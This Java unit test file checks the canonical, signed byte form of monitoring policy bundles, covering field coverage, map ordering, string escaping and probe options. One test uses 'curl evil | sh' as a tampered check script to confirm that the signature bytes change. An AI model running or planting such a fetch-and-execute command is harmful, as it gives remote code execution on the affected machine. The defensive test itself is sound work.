package io.aami.common.policy;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.ObjectMapper;
import io.aami.common.pki.Pem;
import io.aami.contract.policy.CheckSpec;
import io.aami.contract.policy.PolicyBundle;
import io.aami.contract.policy.ProbeSpec;
import io.aami.contract.policy.ProcessMatch;
import io.aami.contract.probes.HttpProbeOptions;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.lang.reflect.RecordComponent;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.HashSet;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeMap;
import java.util.UUID;
import java.util.stream.Collectors;
import org.junit.jupiter.api.Test;

class PolicyCanonicalFormTest {
    static PolicyBundle bundle() {
        CheckSpec disk = new CheckSpec(UUID.fromString("11111111-1111-1111-1111-111111111111"), "disk", "bash",
                "df -h /\n", "9f2c0f1a", List.of("-x", "--flag=1"), Map.of("LANG", "C", "PATH", "/usr/bin"), 60, 10,
                Map.of("team", "ops", "tier", "1"));
        CheckSpec load = new CheckSpec(UUID.fromString("22222222-2222-2222-2222-222222222222"), "load", "sh",
                "uptime", "77aa", List.of("a", "b"), Map.of("A", "1", "B", "2"), 30, 5, Map.of("k", "v", "l", "w"));
        ProbeSpec tcp = new ProbeSpec(UUID.fromString("33333333-3333-3333-3333-333333333333"),
                UUID.fromString("44444444-4444-4444-4444-444444444444"), "db", "10.0.0.1", 40000, "10.0.0.2", 5432,
                "tcp", 1000, 15, "00ff", "ab", false, Map.of("env", "prod", "zone", "a"));
        ProbeSpec udp = new ProbeSpec(UUID.fromString("55555555-5555-5555-5555-555555555555"),
                UUID.fromString("66666666-6666-6666-6666-666666666666"), "dns", "::1", 53000, "db.example", 53,
                "udp", 500, 30, "01", "02", true, Map.of("a", "1", "b", "2"));
        return new PolicyBundle(42, UUID.fromString("77777777-7777-7777-7777-777777777777"),
                Instant.parse("2025-01-02T03:04:05.123456Z"), Instant.parse("2025-01-09T03:04:05Z"),
                List.of(disk, load), List.of(tcp, udp), "0123456789abcdef", "c2lnbmF0dXJl");
    }

    @Test
    void layoutIsExactlyAsSpecified() {
        PolicyBundle small = new PolicyBundle(7, UUID.fromString("77777777-7777-7777-7777-777777777777"),
                Instant.parse("2025-01-02T03:04:05.5Z"), Instant.parse("2025-01-09T00:00:00Z"),
                List.of(new CheckSpec(UUID.fromString("11111111-1111-1111-1111-111111111111"), "c", "sh", "echo",
                        "ab", List.of(), Map.of("B", "2", "A", "1"), 60, 10, null)),
                List.of(new ProbeSpec(UUID.fromString("33333333-3333-3333-3333-333333333333"), null, "p", null, null,
                        "h", 80, "tcp", 1000, 15, null, null, false, Map.of())),
                null, "ignored");

        assertThat(new String(PolicyCanonicalForm.canonical(small), StandardCharsets.UTF_8)).isEqualTo(
                "{\"format\":\"aami.policy.v1\",\"version\":7,\"target_id\":\"77777777-7777-7777-7777-777777777777\","
                + "\"generated_at\":\"2025-01-02T03:04:05.500000000Z\",\"expires_at\":\"2025-01-09T00:00:00.000000000Z\","
                + "\"key_id\":null,\"checks\":[{\"check_id\":\"11111111-1111-1111-1111-111111111111\",\"name\":\"c\","
                + "\"interpreter\":\"sh\",\"script\":\"echo\",\"script_sha256\":\"ab\",\"args\":[],"
                + "\"env\":{\"A\":\"1\",\"B\":\"2\"},\"interval_seconds\":60,\"timeout_seconds\":10,\"labels\":null}],"
                + "\"probes\":[{\"probe_id\":\"33333333-3333-3333-3333-333333333333\",\"destination_target_id\":null,"
                + "\"name\":\"p\",\"source_ip\":null,\"source_port\":null,\"target\":\"h\",\"target_port\":80,"
                + "\"protocol\":\"tcp\",\"timeout_ms\":1000,\"interval_seconds\":15,\"payload\":null,\"expect\":null,"
                + "\"udp_no_reply_ok\":false,\"labels\":{}}]}");
    }

    @Test
    void contentRenderedOnceSignsEveryAgentsHeaderAsTheWholeBundleWould() {
        PolicyBundle b = bundle();
        PolicyCanonicalForm.Content shared = PolicyCanonicalForm.content(b.checks(), b.probes());
        PolicyBundle other = new PolicyBundle(43, UUID.randomUUID(), b.generatedAt(), b.expiresAt().plusSeconds(1),
                b.checks(), b.probes(), "fedcba9876543210", null);
        for (PolicyBundle each : List.of(b, other)) {
            assertThat(PolicyCanonicalForm.canonical(each, shared)).isEqualTo(PolicyCanonicalForm.canonical(each));
        }
    }

    @Test
    void bytesAreStableAcrossRunsAndJvms() {
        // Pinned: if this changes, every deployed agent rejects every bundle the new server signs.
        assertThat(Pem.sha256Hex(PolicyCanonicalForm.canonical(bundle())))
                .isEqualTo("8f35a56a1fe7dfe72c3ac4ee0b74fbba54355a00fe3207a97e2d0c6ce1d79978");
    }

    /** {@link #bundle()} with a process and a passive check (the pinned bytes stay those of script checks only). */
    static PolicyBundle withKinds() {
        PolicyBundle b = bundle();
        CheckSpec sshd = new CheckSpec(UUID.fromString("88888888-8888-8888-8888-888888888888"), "sshd", null, null, null,
                List.of("z", "w"), Map.of("Z", "1"), 60, 10, Map.of("a", "b"), "process",
                new ProcessMatch("^sshd$", "/usr/sbin/sshd", "-D", "root", 1, 4, 50, 1L << 30, 1000, 64));
        CheckSpec backup = new CheckSpec(UUID.fromString("99999999-9999-9999-9999-999999999999"), "backup", null, null,
                null, List.of("y", "v"), Map.of("Y", "1"), 86400, 600, Map.of("c", "d"), "passive", null);
        List<CheckSpec> checks = new ArrayList<>(b.checks());
        checks.add(sshd);
        checks.add(backup);
        // An HTTPS probe, so that its http options are varied too.
        List<ProbeSpec> probes = new ArrayList<>(b.probes());
        probes.add(new ProbeSpec(UUID.fromString("aaaaaaaa-aaaa-aaaa-aaaa-aaaaaaaaaaaa"),
                UUID.fromString("bbbbbbbb-bbbb-bbbb-bbbb-bbbbbbbbbbbb"), "web", "10.0.0.1", 40001, "10.0.0.9", 443,
                "HTTPS", 1000, 15, "00", "01", false, Map.of("k", "v"), new HttpProbeOptions("POST", "/health?x=1",
                List.of("2xx", "301"), "ok", "{}", Map.of("X-A", "1"), true, 3, "/etc/ca.pem", "web.example")));
        // And an ICMP probe, for its icmp options.
        probes.add(new ProbeSpec(UUID.fromString("cccccccc-cccc-cccc-cccc-cccccccccccc"),
                UUID.fromString("dddddddd-dddd-dddd-dddd-dddddddddddd"), "gw", null, null, "10.0.0.1", 0,
                "ICMP", 1000, 15, null, null, false, Map.of(), null, new io.aami.contract.probes.IcmpProbeOptions(5, 200)));
        return new PolicyBundle(b.version(), b.targetId(), b.generatedAt(), b.expiresAt(), checks, probes, b.keyId(),
                b.signature());
    }

    @Test
    void aScriptCheckHasTheBytesOfAgentsBeforeKindsAndAProcessCheckCoversItsMatch() {
        CheckSpec script = bundle().checks().get(0);
        CheckSpec kindless = new CheckSpec(script.checkId(), script.name(), script.interpreter(), script.script(),
                script.scriptSha256(), script.args(), script.env(), script.intervalSeconds(), script.timeoutSeconds(),
                script.labels());
        assertThat(kindless).isEqualTo(script);
        String form = text(withKinds());
        assertThat(form).contains("\"kind\":\"process\",\"process\":{\"name_regex\":\"^sshd$\",")
                .contains("\"kind\":\"passive\"}");
        // The pinned bytes (bytesAreStableAcrossRunsAndJvms) are those of script checks without these members.
        assertThat(text(bundle())).doesNotContain("\"kind\"").doesNotContain("\"process\"");
    }

    @Test
    void everyFieldExceptTheSignatureChangesTheBytes() {
        PolicyBundle base = withKinds();
        String baseForm = text(base);
        List<RecordMutations.Mutant> mutants = RecordMutations.of(base, "", List.of("signature", "unknownKeys"));

        Set<String> pathsCovered = mutants.stream().map(m -> m.path().replaceAll("\\[\\d+]", "[]"))
                .collect(Collectors.toSet());
        assertThat(pathsCovered).containsAll(expectedPaths());
        Map<String, Object> bundleByForm = new HashMap<>();
        for (RecordMutations.Mutant m : mutants) {
            String form = text((PolicyBundle) m.value());
            assertThat(form).as("changing %s must change the canonical form", m.path()).isNotEqualTo(baseForm);
            Object earlier = bundleByForm.putIfAbsent(form, m.value());
            assertThat(earlier == null || earlier.equals(m.value()))
                    .as("changing %s gives the same bytes as a different change", m.path()).isTrue();
        }
        assertThat(mutants).hasSizeGreaterThan(100);
    }

    /** Every record component, nested ones included, so a newly added field cannot go unnoticed. */
    private static Set<String> expectedPaths() {
        Set<String> paths = new HashSet<>();
        for (RecordComponent c : PolicyBundle.class.getRecordComponents()) {
            if (!c.getName().equals("signature")) {
                paths.add(c.getName());
            }
        }
        for (RecordComponent c : CheckSpec.class.getRecordComponents()) {
            paths.add("checks[]." + c.getName());
        }
        for (RecordComponent c : ProcessMatch.class.getRecordComponents()) {
            paths.add("checks[].process." + c.getName());
        }
        for (RecordComponent c : ProbeSpec.class.getRecordComponents()) {
            paths.add("probes[]." + c.getName());
        }
        assertThat(paths).hasSize(7 + 12 + 10 + 16);
        return paths;
    }

    @Test
    void everyHttpOptionChangesTheBytesAndTcpProbesCarryNoHttpMember() {
        HttpProbeOptions options = new HttpProbeOptions("POST", "/health?x=1", List.of("2xx", "301"), "ok", "{}",
                Map.of("X-A", "1"), true, 3, "/etc/ca.pem", "web.example");
        PolicyBundle base = bundle();
        ProbeSpec tcp = base.probes().get(0);
        ProbeSpec https = new ProbeSpec(tcp.probeId(), null, "web", null, null, "10.0.0.9", 443, "HTTPS", 1000, 15, null, null,
                false, Map.of(), options);
        String baseForm = text(withProbes(base, https));
        Set<String> forms = new HashSet<>();
        for (RecordMutations.Mutant m : RecordMutations.of(options, "", List.of("unknownKeys"))) {
            ProbeSpec changed = new ProbeSpec(https.probeId(), null, "web", null, null, "10.0.0.9", 443, "HTTPS", 1000, 15, null,
                    null, false, Map.of(), (HttpProbeOptions) m.value());
            String form = text(withProbes(base, changed));
            assertThat(form).as("changing http.%s must change the canonical form", m.path()).isNotEqualTo(baseForm);
            forms.add(form);
        }
        assertThat(forms).hasSizeGreaterThan(15);
        assertThat(baseForm).contains("\"http\":{\"method\":\"POST\"");
        assertThat(text(base)).doesNotContain("\"http\"");
    }

    @Test
    void anHttpsProbeSignsTheSameAfterTheWire() throws Exception {
        HttpProbeOptions options = new HttpProbeOptions("GET", "/", List.of("2xx"), null, null, Map.of(), false, null, null,
                "web.example");
        PolicyBundle b = withProbes(bundle(), new ProbeSpec(java.util.UUID.randomUUID(), null, "web", null, null, "10.0.0.9",
                443, "HTTPS", 1000, 15, null, null, false, Map.of(), options));
        var mapper = io.aami.common.json.WireJson.mapper();
        PolicyBundle parsed = mapper.readValue(mapper.writeValueAsBytes(b), PolicyBundle.class);

        assertThat(text(parsed)).isEqualTo(text(b));
        assertThat(mapper.writeValueAsString(b)).doesNotContain("unknown_keys");
    }

    @Test
    void everyIcmpOptionChangesTheBytesSurvivesTheWireAndOtherProbesCarryNoIcmpMember() throws Exception {
        PolicyBundle base = bundle();
        java.util.UUID id = java.util.UUID.randomUUID();
        java.util.function.Function<io.aami.contract.probes.IcmpProbeOptions, PolicyBundle> with = o -> withProbes(base,
                new ProbeSpec(id, null, "gw", null, null, "10.0.0.1", 0, "ICMP", 1000, 15, null, null, false, Map.of(), null, o));
        PolicyBundle ping = with.apply(new io.aami.contract.probes.IcmpProbeOptions(5, 200));
        Set<String> forms = new HashSet<>(List.of(text(ping)));
        forms.add(text(with.apply(new io.aami.contract.probes.IcmpProbeOptions(6, 200))));
        forms.add(text(with.apply(new io.aami.contract.probes.IcmpProbeOptions(5, 201))));
        assertThat(forms).hasSize(3);
        assertThat(text(ping)).contains("\"icmp\":{\"count\":5,\"interval_ms\":200}");
        assertThat(text(base)).doesNotContain("\"icmp\"");
        var mapper = io.aami.common.json.WireJson.mapper();
        assertThat(text(mapper.readValue(mapper.writeValueAsBytes(ping), PolicyBundle.class))).isEqualTo(text(ping));
    }

    private static PolicyBundle withProbes(PolicyBundle b, ProbeSpec... probes) {
        return new PolicyBundle(b.version(), b.targetId(), b.generatedAt(), b.expiresAt(), b.checks(), List.of(probes),
                b.keyId(), b.signature());
    }

    @Test
    void theSignatureItselfIsNotCovered() {
        PolicyBundle b = bundle();
        PolicyBundle resigned = new PolicyBundle(b.version(), b.targetId(), b.generatedAt(), b.expiresAt(), b.checks(),
                b.probes(), b.keyId(), "b3RoZXI=");
        assertThat(text(resigned)).isEqualTo(text(b));
    }

    @Test
    void aScriptChangedTogetherWithItsDigestStillChangesTheBytes() {
        PolicyBundle b = bundle();
        CheckSpec c = b.checks().get(0);
        CheckSpec evil = new CheckSpec(c.checkId(), c.name(), c.interpreter(), "curl evil | sh", "recomputed",
                c.args(), c.env(), c.intervalSeconds(), c.timeoutSeconds(), c.labels());
        PolicyBundle changed = new PolicyBundle(b.version(), b.targetId(), b.generatedAt(), b.expiresAt(),
                List.of(evil, b.checks().get(1)), b.probes(), b.keyId(), b.signature());
        assertThat(text(changed)).isNotEqualTo(text(b));
    }

    @Test
    void mapIterationOrderDoesNotMatter() {
        Map<String, String> ascending = new TreeMap<>(Map.of("a", "1", "b", "2", "c", "3", "Z", "0"));
        Map<String, String> descending = new LinkedHashMap<>();
        new TreeMap<>(ascending).descendingMap().forEach(descending::put);
        assertThat(text(withEnv(ascending))).isEqualTo(text(withEnv(descending)))
                .isEqualTo(text(withEnv(new HashMap<>(descending))));
    }

    @Test
    void valuesCannotBleedIntoNeighbours() {
        assertThat(text(withArgs(List.of("a,b")))).isNotEqualTo(text(withArgs(List.of("a", "b"))));
        assertThat(text(withArgs(List.of("a\",\"b")))).isNotEqualTo(text(withArgs(List.of("a", "b"))));
        assertThat(text(withArgs(List.of("\ud800")))).isNotEqualTo(text(withArgs(List.of("\udbff"))));
    }

    @Test
    void stringsAreEscapedDeterministicallyAndTheResultIsJson() throws Exception {
        String tricky = "q\" b\\ n\n t\t c\u0001 \u007f é 😀 lone\ud800";
        String form = text(withArgs(List.of(tricky)));

        assertThat(form).contains("\"args\":[\"q\\\" b\\\\ n\\n t\\t c\\u0001 \u007f é 😀 lone\\ud800\"]");
        assertThat(new ObjectMapper().readTree(form).get("checks").get(0).get("args").get(0).asText()).isEqualTo(tricky);
    }

    private static PolicyBundle withEnv(Map<String, String> env) {
        CheckSpec c = bundle().checks().get(0);
        return withCheck(new CheckSpec(c.checkId(), c.name(), c.interpreter(), c.script(), c.scriptSha256(), c.args(),
                env, c.intervalSeconds(), c.timeoutSeconds(), c.labels()));
    }

    private static PolicyBundle withArgs(List<String> args) {
        CheckSpec c = bundle().checks().get(0);
        return withCheck(new CheckSpec(c.checkId(), c.name(), c.interpreter(), c.script(), c.scriptSha256(), args,
                c.env(), c.intervalSeconds(), c.timeoutSeconds(), c.labels()));
    }

    private static PolicyBundle withCheck(CheckSpec check) {
        PolicyBundle b = bundle();
        return new PolicyBundle(b.version(), b.targetId(), b.generatedAt(), b.expiresAt(), List.of(check), b.probes(),
                b.keyId(), b.signature());
    }

    private static String text(PolicyBundle b) {
        return new String(PolicyCanonicalForm.canonical(b), StandardCharsets.UTF_8);
    }
}
